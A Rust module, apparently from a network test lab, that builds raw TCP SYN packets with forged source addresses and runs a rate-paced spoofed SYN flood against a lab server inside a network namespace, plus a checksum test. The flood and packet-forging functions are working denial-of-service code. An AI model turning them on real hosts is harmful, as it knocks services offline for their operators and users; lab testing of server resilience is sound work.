//! A spoofed SYN flood: raw IPv4 SYNs with made-up source addresses, sent
//! from the lab's client namespace to the lab's server. The sources are not
//! hosts anywhere: the server has no route back to them, so its SYN-ACKs go
//! nowhere and nothing leaves the lab.

use std::{
    io,
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::Lab;

/// Source addresses of the flood: 10.128.0.0/9, none of them the lab's.
pub fn spoofed_source(i: u32) -> Ipv4Addr {
    Ipv4Addr::from(u32::from(Ipv4Addr::new(10, 128, 0, 0)) + (i % (1 << 23)))
}

/// The ones'-complement sum of `bytes` as 16-bit words (RFC 1071).
pub(crate) fn sum(bytes: &[u8]) -> u32 {
    bytes
        .chunks(2)
        .map(|c| u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]) as u32)
        .sum()
}

/// Folds a [`sum`] into a checksum.
pub(crate) fn fold(mut total: u32) -> u16 {
    while total >> 16 != 0 {
        total = (total & 0xffff) + (total >> 16);
    }
    !(total as u16)
}

/// Forges SYNs from `src` to `server` (source ports 20000 and up) at 100 a
/// second from the lab's client namespace, through a raw socket, until
/// `stop`; `alter` may change each before it goes. Returns how many it
/// sent.
pub fn forge_syns(
    lab: &Lab,
    src: Ipv4Addr,
    server: SocketAddrV4,
    stop: &std::sync::atomic::AtomicBool,
    alter: impl Fn(&mut [u8]) + Sync,
) -> u64 {
    lab.client_ns().run(|| {
        let socket = Socket::new(
            Domain::IPV4,
            Type::RAW,
            Some(Protocol::from(libc::IPPROTO_RAW)),
        )
        .expect("a raw socket");
        let to = SockAddr::from(server);
        let mut sent = 0u64;
        while !stop.load(std::sync::atomic::Ordering::Relaxed) {
            let mut packet = syn_packet(src, 20_000 + (sent % 10_000) as u16, server);
            alter(&mut packet);
            socket.send_to(&packet, &to).expect("sending");
            sent += 1;
            std::thread::sleep(Duration::from_millis(10));
        }
        sent
    })
}

/// A SYN from `src:sport` to `dst`, IP header included, checksums right.
pub fn syn_packet(src: Ipv4Addr, sport: u16, dst: SocketAddrV4) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&40u16.to_be_bytes());
    p[6] = 0x40;
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.ip().octets());
    let ip_check = fold(sum(&p[..20]));
    p[10..12].copy_from_slice(&ip_check.to_be_bytes());
    let tcp = &mut p[20..];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dst.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&(sport as u32 * 7919).to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = Vec::with_capacity(32);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.ip().octets());
    pseudo.extend_from_slice(&[0, 6, 0, 20]);
    pseudo.extend_from_slice(&tcp[..]);
    let tcp_check = fold(sum(&pseudo));
    tcp[16..18].copy_from_slice(&tcp_check.to_be_bytes());
    p
}

/// Sends one SYN from `src:sport` to `dst` from the lab's client namespace,
/// by hand: the client's kernel knows nothing of it (and answers a SYN-ACK
/// with a RST).
pub fn send_syn(lab: &Lab, src: Ipv4Addr, sport: u16, dst: SocketAddrV4) -> io::Result<()> {
    lab.client_ns().run(|| {
        let socket = Socket::new(
            Domain::IPV4,
            Type::RAW,
            Some(Protocol::from(libc::IPPROTO_RAW)),
        )?;
        socket.send_to(&syn_packet(src, sport, dst), &SockAddr::from(dst))?;
        Ok(())
    })
}

/// What a flood sent.
#[derive(Clone, Copy, Debug)]
pub struct FloodReport {
    pub sent: u64,
    pub sources: u64,
    pub elapsed: Duration,
}

/// Sends SYNs from `sources` spoofed addresses (one each, in turn, over
/// and over) to `dst` until `keep_going` says stop, at most `rate` a second.
/// Runs in the lab's client namespace.
pub fn syn_flood(
    lab: &Lab,
    dst: SocketAddrV4,
    sources: u32,
    rate: u64,
    keep_going: impl Fn(u64) -> bool + Send,
) -> io::Result<FloodReport> {
    lab.client_ns().run(move || {
        let socket = Socket::new(
            Domain::IPV4,
            Type::RAW,
            Some(Protocol::from(libc::IPPROTO_RAW)),
        )?;
        let to = SockAddr::from(dst);
        let started = Instant::now();
        let mut sent: u64 = 0;
        while keep_going(sent) {
            let i = (sent % sources as u64) as u32;
            let packet = syn_packet(spoofed_source(i), 1024 + (sent % 50_000) as u16, dst);
            match socket.send_to(&packet, &to) {
                Ok(_) => sent += 1,
                // The veth queue is full: let it drain.
                Err(e) if e.raw_os_error() == Some(libc::ENOBUFS) => {
                    std::thread::sleep(Duration::from_micros(100))
                }
                Err(e) => return Err(e),
            }
            // Pace: never ahead of `rate` per second.
            if sent.is_multiple_of(256) {
                let due = Duration::from_secs_f64(sent as f64 / rate as f64);
                if let Some(ahead) = due.checked_sub(started.elapsed()) {
                    std::thread::sleep(ahead);
                }
            }
        }
        Ok(FloodReport {
            sent,
            sources: (sent.min(sources as u64)),
            elapsed: started.elapsed(),
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_checksums_verify() {
        let p = syn_packet(
            Ipv4Addr::new(10, 128, 0, 7),
            4242,
            SocketAddrV4::new(Ipv4Addr::new(10, 77, 0, 1), 25),
        );
        // A correct checksum sums to all ones.
        assert_eq!(fold(sum(&p[..20])), 0);
        let mut pseudo = vec![10, 128, 0, 7, 10, 77, 0, 1, 0, 6, 0, 20];
        pseudo.extend_from_slice(&p[20..]);
        assert_eq!(fold(sum(&pseudo)), 0);
        assert_eq!(spoofed_source(0), Ipv4Addr::new(10, 128, 0, 0));
        assert_eq!(spoofed_source(65536), Ipv4Addr::new(10, 129, 0, 0));
    }
}
